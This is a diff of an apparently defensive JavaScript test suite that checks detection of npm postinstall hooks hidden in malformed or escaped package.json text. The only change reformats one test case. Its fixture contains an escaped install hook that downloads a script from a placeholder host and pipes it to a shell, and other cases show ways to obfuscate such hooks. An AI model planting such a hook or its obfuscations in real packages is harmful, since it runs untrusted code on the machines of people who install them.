@@ -22,11 +22,7 @@ describe("JSON, however it is written", () => {
     ["with commas to spare", `{"a":[1,2,,],"scripts":{"postinstall":"${HOOK}",},}`],
     ["without quotes", `{scripts:{postinstall:'${HOOK}'}}`],
     ["with escapes in the key", `{"scripts":{"post\\u0069nstall":"${HOOK}"}}`],
-    [
-      "with escapes in the value",
-      `{"scripts":{"postinstall":"\\u0063url -s https:\\/\\/a.example/i.sh | sh"}}`,
-      "1:28",
-    ],
+    ["with escapes in the value", `{"scripts":{"postinstall":"\\u0063url -s https:\\/\\/a.example/i.sh | sh"}}`],
     ["after another key of that name", `{"scripts":{"x":""},"scripts":{"postinstall":"${HOOK}"}}`],
     ["behind closing brackets to spare", `]}{"scripts":{"postinstall":"${HOOK}"}}`],
     ["never closed", `{"scripts":{"postinstall":"${HOOK}`],
